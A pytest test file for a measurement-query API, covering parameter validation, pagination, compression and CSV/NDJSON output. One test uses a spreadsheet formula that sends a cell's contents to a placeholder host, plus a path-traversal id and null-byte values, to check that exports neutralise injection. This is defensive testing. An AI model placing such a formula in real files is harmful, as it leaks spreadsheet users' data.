"""`GET /measurements`, `/kpis`, `/quality` and `/ingest/{raw_id}/raw`: parameters, forms, pages, caches, refusals."""

import base64
import csv
import gzip
import io
import json
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import cache
from random import Random
from typing import Any
from urllib.parse import parse_qs, urlsplit
from uuid import UUID

import pytest

from dropzone.adapters.contracts import deployed_contracts
from dropzone.domain.identifiers import received_at
from dropzone.domain.outcomes import NO_TAGS
from dropzone.ports import BronzeError, BronzeUnavailableError, ObjectMissingError, RawObject, RowRefusedError
from dropzone.queries.buckets import MAX_PARTS, Granularity
from dropzone.queries.ranges import Place
from dropzone_query import handler as query
from functional.lambda_calls import api_event, header, json_body
from functional.test_status_request import ENVIRONMENT
from support.documents import PROJECT
from support.factories import raw_id, raw_ids
from support.fakes import InMemoryClients
from support.lambda_context import Context
from support.reads import Row, Rows

NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
RAW_ID = UUID("01a20e71-e5a4-700b-bae4-431c79e16819")

SPREADSHEET = "text/csv; charset=utf-8; header=present; profile=spreadsheet"

LAMBDA_BYTES = 6_291_556
"""The largest answer that Lambda passes on; for a larger one, the client gets 502."""


def measured(number: int, source: str = "", unit: str = "", tags: Mapping[str, str] = NO_TAGS) -> Row:
    return {
        "measured_at": NOON - timedelta(seconds=number),
        "source": source,
        "mean": float(number),
        "std_dev": 1.0,
        "sample_count": 2,
        "min": 0.0,
        "max": 2.0,
        "unit": unit,
        "tags": tags,
        "flags": [],
        "raw_id": RAW_ID,
        "item": number,
        "received_at": "2026-11-24T16:44:35.108Z",
        "updated_at": "2026-11-24T16:44:36.201544+00:00",
    }


def event(number: int, of: Row) -> Row:
    shown = {name: value for name, value in of.items() if name not in {"raw_id", "received_at", "updated_at"}}
    return shown | {"item": number, "status": "processed"}


HOUR = {"start": NOON, "end": NOON + timedelta(hours=1)}
ARRIVALS = {
    "received": 4,
    "processed": 3,
    "rejected": 1,
    "resolved": 1,
    "open": 0,
    "rejected_share": 0.25,
    "open_share": 0.0,
    "flagged": 2,
    "rejected_by_rule": {"data.empty": 1},
    "flagged_by_rule": {"time_stamp.ahead": 2},
}
KPI: Row = {
    **HOUR,
    "source": "a",
    "events": 2,
    "samples": 4,
    "mean": 1.0,
    "std_dev": 0.5,
    "min": 0.0,
    "max": 2.0,
    "first": NOON,
    "last": NOON + timedelta(seconds=60),
    "gaps": {"count": 1, "longest_seconds": 60.0, "expected_seconds": 30.0, "longer_than_seconds": 53.8},
    **ARRIVALS,
    "latency_ms": {"mean": 1.5, "max": 9.0},
}
BARE: Row = {
    **HOUR,
    "source": "b",
    **dict.fromkeys(("events", "samples", "received", "processed", "rejected", "resolved", "open", "flagged"), 0),
    **dict.fromkeys(("mean", "std_dev", "min", "max", "first", "last", "rejected_share", "open_share")),
    "gaps": {"count": 0, **dict.fromkeys(("longest_seconds", "expected_seconds", "longer_than_seconds"))},
    "rejected_by_rule": {},
    "flagged_by_rule": {},
    "latency_ms": {"mean": None, "max": None},
}
QUALITY: Row = {
    **HOUR,
    "source": "a",
    **ARRIVALS,
    "rules": [
        {"code": "time_stamp.ahead", "contract": "default", "rule": "ahead", "severity": "warning", "events": 2},
        {"code": "data.empty", "contract": None, "rule": None, "severity": "error", "events": 1},
    ],
    "latency_ms": {"mean": 2.0, "p50": 1.5, "p95": 8.0, "max": 9.0},
}

BOILER: Row = {
    "source": "boiler-7",
    "state": "late",
    "first_measured_at": NOON - timedelta(days=3),
    "last_measured_at": NOON,
    "last_mean": 21.5,
    "unit": "°C",
    "last_received_at": "2026-03-04T12:00:01.000Z",
    "usual_interval_seconds": 60.0,
    "expected_interval_seconds": 30.0,
    "usual_latency_seconds": 1.5,
    "contract": "boilers@1.0.0",
    "broken_expectations": ["stuck"],
    "stuck_since": NOON - timedelta(hours=7),
    "last_day": {"received": 4, "rejected": 1, "resolved": 1, "open": 0, "rejected_share": 0.25, "open_share": 0.0},
    "trend": [None, 21.5],
}
NEVER: Row = {
    "source": "boiler-8",
    "state": "silent",
    **dict.fromkeys(("first_measured_at", "last_measured_at", "last_mean", "unit", "last_received_at")),
    "usual_interval_seconds": None,
    "expected_interval_seconds": 86_400.0,
    "usual_latency_seconds": None,
    "contract": None,
    "broken_expectations": [],
    "stuck_since": None,
    "last_day": {
        "received": 0,
        **dict.fromkeys(("rejected", "resolved", "open"), 0),
        "rejected_share": None,
        "open_share": None,
    },
    "trend": None,
}


@dataclass(slots=True)
class Data(Rows):
    """Silver, gold and bronze that answer what a test sets, and remember what they were asked."""

    raw: dict[UUID, RawObject | BronzeError] = field(default_factory=dict)

    def read(self, identifiers: Sequence[UUID], *, timeout: float) -> list[RawObject | BronzeError]:
        assert timeout > 0
        return [self.raw.get(identifier, ObjectMissingError("gone")) for identifier in identifiers]

    def hold_batch(self, events: Sequence[Row]) -> None:
        counts = {"processed": len(events), "superseded": 0, "rejected": 0}
        self.objects = [{"status": "processed", "settled_at": NOON, "items": len(events), "counts": counts}]
        self.events = events

    def parameters(self, number: int = -1) -> dict[str, Any]:
        """Those of a read, without its SQL."""
        return {name: value for name, value in self.asked[number].items() if name != "sql"}


def shown(row: object) -> Any:  # noqa: ANN401 - any JSON
    """A row as an answer has it."""
    if isinstance(row, Mapping):
        return {name: shown(value) for name, value in row.items()}
    if isinstance(row, list):
        return [shown(value) for value in row]
    return row.isoformat().replace("+00:00", "Z") if isinstance(row, datetime) else row


Get = Callable[..., dict[str, Any]]


@pytest.fixture
def data(monkeypatch: pytest.MonkeyPatch) -> Data:
    for name, value in ENVIRONMENT.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr(query, "settings", cache(query.settings.__wrapped__))
    monkeypatch.setattr(query, "clients", InMemoryClients)
    data = Data()
    for made in ("database", "bronze"):
        monkeypatch.setattr(query, made, lambda: data)
    return data


@pytest.fixture
def get(data: Data) -> Get:
    del data

    def call(
        path: str, parameters: Mapping[str, str] | None = None, method: str = "GET", **headers: str
    ) -> dict[str, Any]:
        names = {name.replace("_", "-"): value for name, value in headers.items()}
        event = api_event(b"", like="api-process", path=path, query=parameters or {}, headers={"Accept": None, **names})
        answer: dict[str, Any] = query.handler(event | {"httpMethod": method}, Context())
        assert len(json.dumps(answer)) < LAMBDA_BYTES
        return answer

    return call


def refused(answer: dict[str, Any], status: int = 422) -> list[tuple[str, str]]:
    assert answer["statusCode"] == status
    assert header(answer, "Content-Type") == "application/problem+json"
    problem = json_body(answer)
    return [(violation["field"], violation["code"]) for violation in problem.get("violations", [])]


# ---- measurements ----------------------------------------------------------------------------------------------------


def test_measurements_with_all_that_is_known_of_them(get: Get, data: Data) -> None:
    data.measurements = [measured(1, "boiler", "°C", {"site": "north"})]

    answer = get("/measurements")

    assert answer["statusCode"] == 200
    assert header(answer, "Content-Type") == "application/json"
    assert json_body(answer) == {
        "measurements": [
            {
                "measured_at": "2026-03-04T11:59:59Z",
                "source": "boiler",
                "mean": 1.0,
                "std_dev": 1.0,
                "sample_count": 2,
                "min": 0.0,
                "max": 2.0,
                "unit": "°C",
                "tags": {"site": "north"},
                "flags": [],
                "raw_id": str(RAW_ID),
                "item": 1,
                "received_at": "2026-11-24T16:44:35.108Z",
                "updated_at": "2026-11-24T16:44:36.201544Z",
            }
        ]
    }
    # The last month's, and then the rest.
    assert [(each["limit"], "since" in each, "until" in each) for each in data.asked] == [
        (101, True, False),
        (101, False, True),
    ]


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
@pytest.mark.parametrize(
    ("path", "parameters", "since"),
    [
        ("/measurements", {}, "-infinity"),
        ("/measurements", {"from": "2026-01-15", "to": "2026-03-04T12:00Z"}, datetime(2026, 1, 15, tzinfo=UTC)),
        (
            "/kpis",
            {"granularity": "minute", "to": "2026-03-04T12:00Z"},
            datetime(2026, 3, 4, 11, tzinfo=UTC),
        ),
        (
            "/quality",
            {"granularity": "second", "to": "2026-03-04T12:00Z"},
            datetime(2026, 3, 4, 11, 55, tzinfo=UTC),
        ),
    ],
)
def test_archived_months_of_the_range_are_named(
    get: Get, data: Data, path: str, parameters: dict[str, str], since: object, accept: str
) -> None:
    data.archived = ["2026-01", "2026-02"]

    answer = get(path, parameters, Accept=accept)

    assert header(answer, "Dropzone-Archived") == "2026-01, 2026-02"
    if accept == "application/json":
        assert json_body(answer)["archived"] == ["2026-01", "2026-02"]
    [asked] = data.asked_of_archive
    assert asked["since"] == since


def test_a_header_does_not_grow_with_the_archive(get: Get, data: Data) -> None:
    data.archived = [f"{year}-01" for year in range(1000, 1102)]

    answer = get("/measurements", {})

    assert (header(answer, "Dropzone-Archived") or "").endswith("1098-01, 1099-01, and 2 more")
    assert json_body(answer)["archived"] == data.archived


def test_gold_lacks_no_month(get: Get, data: Data) -> None:
    data.archived = ["2026-01"]

    answer = get("/kpis", {"granularity": "hour", "from": "2026-01-01", "to": "2026-01-31"})

    assert header(answer, "Dropzone-Archived") is None
    assert "archived" not in json_body(answer)


def test_an_instant_of_an_archived_month_is_gone(get: Get, data: Data) -> None:
    # Also where something arrived since, which may not be all.
    data.measurements = [measured(1)]
    data.archived = ["2026-03"]

    answer = get("/measurements/2026-03-04T12:00Z")

    assert answer["statusCode"] == 410
    assert json_body(answer)["type"] == "urn:dropzone:problem:archived"


def test_parameters_in_any_form_that_ingest_takes(get: Get, data: Data) -> None:
    parameters = {"from": "2026-03-04 13:00+01", "to": "2026-03-04T12:00:00,5Z", "source": "", "order": "asc"}
    get("/measurements", parameters | {"limit": "1000"})

    until = NOON + timedelta(milliseconds=500)
    assert data.parameters() == {"since": NOON, "until": until, "source": "", "limit": 1001}


@pytest.mark.parametrize(
    ("path", "parameters", "broken"),
    [
        ("/measurements", {"from": "yesterday"}, ("from", "request.invalid")),
        ("/measurements", {"to": "2026-02-30"}, ("to", "request.invalid")),
        ("/measurements", {"from": "2026-03-04T12:00"}, ("from", "request.invalid")),
        ("/measurements", {"from": "2026-03-04 12:00"}, ("from", "request.invalid")),
        ("/measurements", {"from": "2026-W10-3"}, ("from", "request.invalid")),
        ("/measurements", {"from": "20260304"}, ("from", "request.invalid")),
        ("/measurements", {"tz": "Mars/Olympus"}, ("tz", "request.time_zone")),
        ("/measurements", {"limit": "0"}, ("limit", "request.out_of_range")),
        ("/measurements", {"limit": "1001"}, ("limit", "request.out_of_range")),
        ("/measurements", {"limit": "ten"}, ("limit", "request.invalid")),
        ("/measurements", {"order": "down"}, ("order", "request.invalid")),
        ("/measurements", {"source": "x" * 201}, ("source", "request.out_of_range")),
        ("/measurements", {"source": "a\0b"}, ("source", "request.invalid")),
        ("/measurements", {"cursor": "1"}, ("cursor", "request.invalid")),
        ("/measurements", {"cursor": "."}, ("cursor", "request.invalid")),
        ("/measurements", {"cursor": "1.a\0"}, ("cursor", "request.invalid")),
        ("/measurements", {"cursor": f"1.{'x' * 201}"}, ("cursor", "request.invalid")),
        ("/measurements", {"cursor": "1234567890123456789.a"}, ("cursor", "request.invalid")),
        ("/measurements", {"page": "2"}, ("page", "request.unknown")),
        ("/rejections", {"code": "data.odd"}, ("code", "request.invalid")),
        ("/rejections", {"limit": "0"}, ("limit", "request.out_of_range")),
        ("/rejections", {"limit": "x"}, ("limit", "request.invalid")),
        ("/rejections", {"from": "2024-01"}, ("from", "request.invalid")),
        ("/rejections", {"cursor": "1"}, ("cursor", "request.invalid")),
        ("/rejections", {"odd": "1"}, ("odd", "request.unknown")),
        ("/sources", {"state": "dead"}, ("state", "request.invalid")),
        ("/sources", {"prefix": "x" * 201}, ("prefix", "request.out_of_range")),
        ("/sources", {"prefix": "\0"}, ("prefix", "request.invalid")),
        ("/sources", {"cursor": "a"}, ("cursor", "request.invalid")),
        ("/sources", {"limit": "1001"}, ("limit", "request.out_of_range")),
        ("/contracts", {"limit": "0"}, ("limit", "request.out_of_range")),
        ("/contracts", {"cursor": "Default"}, ("cursor", "request.invalid")),
        ("/contracts", {"source": "a"}, ("source", "request.unknown")),
        *(
            (f"/ingest/{each}", {}, ("id", "request.invalid"))
            for each in ("5", "not-a-uuid", f"{RAW_ID}"[:-1], "%2e%2e")
        ),
    ],
)
def test_bad_parameters(get: Get, path: str, parameters: dict[str, str], broken: tuple[str, str]) -> None:
    assert refused(get(path, parameters)) == [broken]


@pytest.mark.parametrize(
    ("parameters", "message"),
    [
        ({"from": "yesterday"}, "Input should be of the form YYYY-MM-DDThh:mm[:ss[.f]] with an offset"),
        ({"to": "2026-02-30"}, "Input should be a date that exists"),
        ({"tz": "Mars/Olympus"}, "Input should be the IANA name of a time zone, such as Europe/Berlin"),
        ({"page": "2"}, "Extra inputs are not permitted"),
        ({"from": "2026-03-04T12:00Z", "to": "2026-03-04T12:00Z"}, "is not before to"),
        (
            {"granularity": "minute", "from": "2026-03-03", "to": "2026-03-04"},
            "is more than 1500 buckets of a minute before to",
        ),
        ({"from": "2026-03-03", "to": "2026-03-04"}, "is too far before to, for what lies between them"),
    ],
)
def test_a_refusal_says_what_is_expected(get: Get, data: Data, parameters: dict[str, str], message: str) -> None:
    data.parts = MAX_PARTS + 1

    [violation] = json_body(get("/kpis", parameters))["violations"]

    assert violation["message"] == message


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/rejections"])
@pytest.mark.parametrize(
    "sent",
    [
        "2026-03-04T13:00:00 01:00",
        "2026-03-04T13:00 01:00",
        "2026-03-04 13:00 0100",
        "2026-03-04T13:00:00.000 01",
        "2026-03-04 12:00Z",
    ],
)
def test_a_space_is_the_plus_that_it_was(get: Get, data: Data, path: str, sent: str) -> None:
    get(path, {"from": sent, "to": "2026-03-05T01:00:00 01:00"})

    assert range_asked(data) == (NOON, NOON + timedelta(hours=12))


def range_asked(data: Data) -> tuple[Any, Any]:
    """From when to when, of the last question."""
    asked = data.asked[-1]
    since, until = asked["since"], asked["before" if "before" in asked else "until"]
    return received_at(UUID(since)) if isinstance(since, str) else since, (
        received_at(UUID(until)) if isinstance(until, str) else until
    )


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", "/rejections"])
@pytest.mark.parametrize(
    ("parameters", "begins", "ends"),
    [
        ({"from": "2026-03-04", "to": "2026-03-04"}, "2026-03-04T00:00Z", "2026-03-05T00:00Z"),
        ({"from": "2026-03-04", "to": "2026-03-05", "tz": "Europe/Berlin"}, "2026-03-03T23:00Z", "2026-03-05T23:00Z"),
        ({"from": "2026-03-29", "to": "2026-03-29", "tz": "Europe/Berlin"}, "2026-03-28T23:00Z", "2026-03-29T22:00Z"),
        ({"from": "2026-03-04", "to": "2026-03-04T12:00 01:00"}, "2026-03-04T00:00Z", "2026-03-04T11:00Z"),
    ],
)
def test_a_date_alone_is_a_day_of_the_time_zone(
    get: Get, data: Data, path: str, parameters: dict[str, str], begins: str, ends: str
) -> None:
    assert get(path, parameters)["statusCode"] == 200

    assert range_asked(data) == (datetime.fromisoformat(begins), datetime.fromisoformat(ends))


@pytest.mark.parametrize(
    ("parameters", "asked"), [({}, "false"), *(({"resolved": each}, each) for each in ("false", "true", "all"))]
)
def test_rejections_tell_by_what_they_are_resolved(
    get: Get, data: Data, parameters: dict[str, str], asked: str
) -> None:
    by = {"raw_id": str(RAW_ID), "item": 7}
    rejection: Row = {
        "raw_id": str(RAW_ID),
        "received_at": "2026-11-24T16:44:35.108Z",
        "processed_at": NOON,
        "contract": "",
        "ruleset": "4",
        "source": "",
        "violations": [{"code": "data.empty", "field": "data", "message": "is empty"}],
    }
    data.rejections = [{**rejection, "item": 0, "resolved_by": None}, {**rejection, "item": 1, "resolved_by": by}]

    answered = json_body(get("/rejections", parameters))["rejections"]

    assert [(each["item"], each["resolved_by"]) for each in answered] == [(0, None), (1, by)]
    assert data.asked[0]["resolved"] == asked
    assert refused(get("/rejections", {"resolved": "yes"})) == [("resolved", "request.invalid")]
    # A page that is just full leads nowhere.
    assert "cursor" not in json_body(get("/rejections", {"limit": "2"}))
    assert json_body(get("/rejections", {"limit": "1"}))["cursor"] == f"{RAW_ID}.0"


def test_a_page_leads_to_the_next(get: Get, data: Data) -> None:
    data.measurements = [measured(number, source="ü") for number in range(5)]
    parameters = {"limit": "2", "source": "ü", "order": "desc"}

    answer = get("/measurements", parameters)
    body = json_body(answer)
    link = header(answer, "Link")
    assert link is not None
    target, relation = link.split("; ")
    following = {name: value for name, [value] in parse_qs(urlsplit(target.strip("<>")).query).items()}

    assert [entry["item"] for entry in body["measurements"]] == [0, 1]
    assert relation == 'rel="next"'
    assert following == parameters | {"cursor": body["cursor"]}
    get("/measurements", following)
    assert (data.asked[-1]["after"], data.asked[-1]["after_source"]) == (NOON - timedelta(seconds=1), "ü")


def test_the_last_page_leads_nowhere(get: Get, data: Data) -> None:
    data.measurements = [measured(number) for number in range(2)]

    answer = get("/measurements", {"limit": "2"})

    assert "cursor" not in json_body(answer)
    assert header(answer, "Link") is None


@pytest.mark.parametrize(
    ("cursor", "place"),
    [
        ("0.", (datetime(1970, 1, 1, tzinfo=UTC), "")),
        ("-1.a.b", (datetime(1969, 12, 31, 23, 59, 59, 999999, tzinfo=UTC), "a.b")),
        ("253402300799999999.x", (datetime.max.replace(tzinfo=UTC), "x")),
        ("-62135596800000000.x", (datetime.min.replace(tzinfo=UTC), "x")),
        ("999999999999999999.x", (datetime.max.replace(tzinfo=UTC), "x")),
        ("-999999999999999999.x", (datetime.min.replace(tzinfo=UTC), "x")),
    ],
)
def test_a_cursor_is_a_place(get: Get, data: Data, cursor: str, place: Place) -> None:
    assert get("/measurements", {"cursor": cursor})["statusCode"] == 200
    assert (data.asked[0]["after"], data.asked[0]["after_source"]) == place


ROOM = 500_000

# Of an entry, up to 16 tags of 64 and 256 characters, which may need 12 bytes each where Lambda escapes them.
HEAVY = {f"{number:02}" + "\U0001f600" * 62: "\U0001f600" * 256 for number in range(16)}


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_what_would_not_fit_through_lambda_is_cut_and_goes_on(get: Get, data: Data, accept: str) -> None:
    data.measurements = [measured(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]
    read, parameters = [], {"limit": "1000"}

    while True:
        answer = get("/measurements", parameters, Accept=accept)
        found = items(answer, accept)
        read += found
        data.measurements = data.measurements[len(found) :]
        link = header(answer, "Link")
        if link is None:
            break
        # As much as goes, and room for whatever else the answer carries.
        assert 5_000_000 < len(json.dumps(answer)) < LAMBDA_BYTES - ROOM
        parameters = {name: value for name, [value] in parse_qs(urlsplit(link.split(">")[0][1:]).query).items()}

    assert read == list(range(1000))


@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/x-ndjson"])
def test_what_is_compressed_counts_as_it_is_sent(get: Get, data: Data, accept: str) -> None:
    # GIVEN entries that don't fit as they are, and do when they are compressed
    data.measurements = [measured(number, "\U0001f600" * 200, tags=HEAVY) for number in range(1000)]

    answer = get("/measurements", {"limit": "1000"}, Accept=accept, Accept_Encoding="gzip, br")

    assert header(answer, "Content-Encoding") == "gzip"
    assert header(answer, "Link") is None
    assert items(unpacked(answer), accept) == list(range(1000))


def test_what_does_not_fit_even_compressed_is_cut_and_goes_on(get: Get, data: Data) -> None:
    random = Random(3)  # noqa: S311 - no secret
    tags = [{f"{tag:02}": random.randbytes(128).hex() for tag in range(16)} for _ in range(50)]
    data.measurements = [
        measured(number, random.randbytes(100).hex(), tags=tags[number % 50] | {"x": random.randbytes(9_000).hex()})
        for number in range(1000)
    ]
    parameters = {"limit": "1000"}

    answer = get("/measurements", parameters, Accept_Encoding="gzip")

    listed = json_body(unpacked(answer))
    assert 5_000_000 < len(json.dumps(answer)) < LAMBDA_BYTES - ROOM
    assert [entry["item"] for entry in listed["measurements"]] == list(range(len(listed["measurements"])))
    # The next page goes on behind the last that fitted.
    last = data.measurements[len(listed["measurements"]) - 1]
    assert get("/measurements", {"cursor": listed["cursor"]})["statusCode"] == 200
    assert (data.asked[-1]["after"], data.asked[-1]["after_source"]) == (last["measured_at"], last["source"])


def unpacked(answer: dict[str, Any]) -> dict[str, Any]:
    """An answer as its client reads it."""
    assert (header(answer, "Content-Encoding"), answer["isBase64Encoded"]) == ("gzip", True)
    body = gzip.decompress(base64.b64decode(answer["body"])).decode()
    return answer | {"body": body, "isBase64Encoded": False}


@pytest.mark.parametrize("path", ["/measurements", "/kpis", "/quality", f"/ingest/{RAW_ID}"])
def test_compressed_answers_say_the_same_under_the_same_tag(get: Get, data: Data, path: str) -> None:
    data.measurements = [measured(number) for number in range(100)]
    data.kpis, data.quality = [KPI] * 100, [QUALITY] * 100
    data.hold_batch([event(number, measured(number)) for number in range(100)])
    parameters = {"to": "2026-03-04T12:00Z"} if path in {"/kpis", "/quality"} else {}

    plain, packed = get(path, parameters), get(path, parameters, Accept_Encoding="gzip")

    assert unpacked(packed)["body"] == plain["body"]
    assert header(packed, "ETag") == header(plain, "ETag")
    assert "Accept-Encoding" in str(header(plain, "Vary"))
    if tag := header(packed, "ETag"):
        assert get(path, parameters, Accept_Encoding="gzip", If_None_Match=tag)["statusCode"] == 304


def test_a_problem_is_small_and_not_compressed(get: Get) -> None:
    assert refused(get("/kpis", {"tz": "Nowhere"}, Accept_Encoding="gzip")) == [("tz", "request.time_zone")]


def test_a_batch_s_events_that_would_not_fit_through_lambda_go_on_at_the_cursor(get: Get, data: Data) -> None:
    heavy = measured(0, "\U0001f600" * 200, tags=HEAVY)
    data.hold_batch([event(number, heavy) for number in range(400)])
    read: list[int] = []
    parameters = {"limit": "1000"}

    while True:
        answer = get(f"/ingest/{RAW_ID}", parameters)
        assert len(json.dumps(answer)) < LAMBDA_BYTES - ROOM
        answered = json_body(answer)
        read += [event["item"] for event in answered["events"]]
        if "cursor" not in answered:
            break
        parameters["cursor"] = str(answered["cursor"])

    assert read == list(range(400))


def test_a_source_that_postgres_can_not_hold_is_refused_and_never_asked_for(get: Get, data: Data) -> None:
    for path in ("/rejections", "/measurements", "/kpis", "/quality"):
        assert refused(get(path, {"source": "a\0"})) == [("source", "request.invalid")]
    assert data.asked == []


def test_what_the_database_refuses_to_compare_with_is_the_request_s_fault(get: Get, data: Data) -> None:
    data.refusal = RowRefusedError("SQLSTATE 22021")
    assert refused(get("/rejections", {"source": "x"})) == []


def items(answer: dict[str, Any], accept: str) -> list[int]:
    if accept == "text/csv":
        return [int(row["item"]) for row in csv.DictReader(io.StringIO(answer["body"]))]
    if accept == "application/x-ndjson":
        return [json.loads(line)["item"] for line in answer["body"].splitlines()]
    return [entry["item"] for entry in json_body(answer)["measurements"]]


def test_an_entry_that_is_larger_than_an_answer_is_given_all_the_same(
    get: Get, data: Data, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("dropzone.api.pages.MAX_BYTES", 10)
    data.measurements = [measured(number) for number in range(3)]

    assert len(json_body(get("/measurements"))["measurements"]) == 1


@pytest.mark.parametrize(
    ("accept", "form"),
    [
        ("application/json", "application/json"),
        ("*/*", "application/json"),
        ("application/*", "application/json"),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "application/json"),
        ("text/csv", "text/csv"),
        ("TEXT/CSV; charset=utf-8", "text/csv"),
        ("text/*", "text/csv"),
        ("application/json;q=0.5, text/csv", "text/csv"),
        ("application/json;q=0, */*", "application/x-ndjson"),
        ("application/x-ndjson, application/json;q=0.9", "application/x-ndjson"),
        ("text/html", None),
        ("application/json;q=0", None),
        ("text/csv;q=x", None),
        ("text/csv; header=present", "text/csv; charset=utf-8; header=present"),
        ("text/csv; header=absent", None),
        ("text/csv; profile=spreadsheet", SPREADSHEET),
        ('text/csv; profile="spreadsheet"; charset=utf-8', SPREADSHEET),
        ("text/csv;q=0.5, text/csv;profile=spreadsheet", SPREADSHEET),
        ("text/csv, text/csv;profile=spreadsheet;q=0.5", "text/csv; charset=utf-8; header=present"),
        ("text/csv; profile=print", None),
        ("application/json; profile=print", "application/json"),
    ],
)
def test_the_format_is_what_the_client_accepts_best(get: Get, data: Data, accept: str, form: str | None) -> None:
    data.measurements = [measured(0)]

    for path in ("/measurements", "/measurements/2026-03-04T12:00Z", "/kpis", "/quality", "/sources", "/contracts"):
        answer = get(path, Accept=accept)
        if form is None:
            assert refused(answer, 406) == []
        else:
            content_type = header(answer, "Content-Type")
            assert content_type is not None
            assert content_type == form if ";" in form else content_type.split(";")[0] == form
            assert header(answer, "Vary") == "Accept, Authorization, X-Api-Key, Accept-Encoding"


LISTS = ["measurements", "kpis", "quality", "sources"]


@pytest.mark.parametrize("name", [*LISTS, "contracts"])
def test_csv_and_ndjson_say_the_same_as_json(get: Get, data: Data, name: str) -> None:
    data.measurements = [measured(1, 'a "b", c', "°C", {"k": 'v"'}), measured(2)]
    data.kpis = [{**KPI, "source": 'a "b", c'}, BARE]
    data.quality = [{**QUALITY, "source": "ü\n"}]
    data.sources = [BOILER, NEVER]
    listed = json_body(get(f"/{name}"))[name]

    lines = get(f"/{name}", Accept="application/x-ndjson")["body"].splitlines()
    text = get(f"/{name}", Accept="text/csv")["body"]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert text.endswith("\r\n")
    assert [json.loads(line) for line in lines] == listed
    for row, entry in zip(rows, listed, strict=True):
        cells = dict(flattened(entry))
        assert list(row) == list(cells)
        for column, value in cells.items():
            expected = "" if value is None else value
            assert row[column] == expected if isinstance(expected, str) else json.loads(row[column]) == value


def flattened(entry: Mapping[str, Any]) -> Iterator[tuple[str, Any]]:
    """An entry's values by their columns: objects of fixed fields have a column for each of them."""
    for name, value in entry.items():
        if name in {"gaps", "latency_ms", "last_day", "expectations"}:
            yield from ((f"{name}_{part}", each) for part, each in value.items())
        else:
            yield name, value


@pytest.mark.parametrize("name", LISTS)
def test_csv_for_a_spreadsheet_is_marked_as_utf_8_and_runs_nothing(get: Get, data: Data, name: str) -> None:
    sources = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1", "-1", "@x", "\tx", "\rx", "＝1", "ü=1", "'=1"]
    data.measurements = [measured(-1, source, "-°C") for source in sources]
    data.kpis = [{**KPI, "source": source, "mean": -1.0} for source in sources]
    data.quality = [{**QUALITY, "source": source} for source in sources]
    data.sources = [{**BOILER, "source": source} for source in sources]

    plain, shown = (get(f"/{name}", Accept=accept) for accept in ("text/csv", "text/csv; profile=spreadsheet"))

    assert header(shown, "Content-Disposition") == f'attachment; filename="{name}.csv"'
    assert shown["body"].startswith("\ufeff")
    rows, of_plain = (
        list(csv.DictReader(io.StringIO(answer["body"].removeprefix("\ufeff"), newline="")))
        for answer in (shown, plain)
    )
    assert [row["source"] for row in of_plain] == sources
    assert [row["source"] for row in rows] == [*(f"'{source}" for source in sources[:-2]), *sources[-2:]]
    # Numbers stay numbers, negative ones too, and everything else is the same.
    assert [row.get("mean", "-1.0") for row in rows] == ["-1.0"] * len(rows)
    for marked, bare in zip(rows, of_plain, strict=True):
        assert marked | {"source": "", "unit": ""} == bare | {"source": "", "unit": ""}


def test_plain_csv_has_no_mark_and_no_file_name(get: Get, data: Data) -> None:
    data.measurements = [measured(1, "=1")]
    answer = get("/measurements", Accept="text/csv")

    assert answer["body"].startswith("measured_at,source,mean,")
    assert answer["body"].splitlines()[1].split(",")[1] == "=1"
    assert header(answer, "Content-Disposition") is None


def test_no_measurements_are_an_empty_list_in_every_form(get: Get) -> None:
    assert json_body(get("/measurements")) == {"measurements": []}
    assert get("/measurements", Accept="application/x-ndjson")["body"] == ""
    assert get("/measurements", Accept="text/csv")["body"].startswith("measured_at,source,mean,")


@pytest.mark.parametrize(
    "path",
    [
        "2026-03-04T13:00:00+01:00",
        "2026-03-04T12:00Z",
        "2026-03-04T13%3A00%3A00%2B01%3A00",
        "2026-03-04 07:00-05",
        "2026-03-04T13:00:00%2001:00",
    ],
)
def test_the_measurements_of_an_instant(get: Get, data: Data, path: str) -> None:
    data.measurements = [measured(0, "a"), measured(0, "b")]

    body = json_body(get(f"/measurements/{path}"))

    assert [entry["source"] for entry in body["measurements"]] == ["a", "b"]
    assert data.parameters() == {"instant": NOON, "limit": 101}


def test_an_instant_of_which_nothing_is_known(get: Get) -> None:
    assert refused(get("/measurements/2026-03-04T12:00:00Z", {"source": "a"}), 404) == []


@pytest.mark.parametrize("path", ["now", "2026-03-04", "2026-03-04T12:00:00", "%00"])
def test_what_is_no_instant(get: Get, path: str) -> None:
    assert refused(get(f"/measurements/{path}")) == [("measured_at", "request.invalid")]


# ---- kpis and quality ------------------------------------------------------------------------------------------------


def test_kpis(get: Get, data: Data) -> None:
    data.kpis = [KPI, BARE]

    body = json_body(get("/kpis", {"from": "2026-03-04T12:00Z", "to": "2026-03-04T13:00Z"}))

    assert body["granularity"] == "hour"
    assert body["tz"] == "UTC"
    assert body["kpis"] == [shown(KPI), shown(BARE)]
    assert data.parameters() == {
        "granularity": "hour",
        "since": NOON,
        "until": NOON + timedelta(hours=1),
        **dict.fromkeys(("source", "reads", "expected", "after", "after_source")),
        "tz": "UTC",
        "limit": 5001,
    }


def test_kpis_as_they_are_asked_for(get: Get, data: Data) -> None:
    data.kpis = [KPI, BARE]
    parameters = {
        "granularity": "day",
        "from": "2026-03-04T12:00Z",
        "to": "2026-03-05T12:00Z",
        "source": "",
        "tz": "Europe/Berlin",
        "expected_seconds": "1.5",
        "limit": "1",
    }

    body = json_body(get("/kpis", parameters))
    get("/kpis", parameters | {"cursor": body["cursor"]})

    asked = {
        "granularity": "day",
        "since": NOON,
        "until": NOON + timedelta(days=1),
        "source": "",
        "tz": "Europe/Berlin",
        "expected": 1.5,
        "reads": None,
        "limit": 2,
    }
    assert data.parameters(0) == asked | {"after": None, "after_source": None}
    assert data.parameters(1) == asked | {"after": NOON, "after_source": "a"}
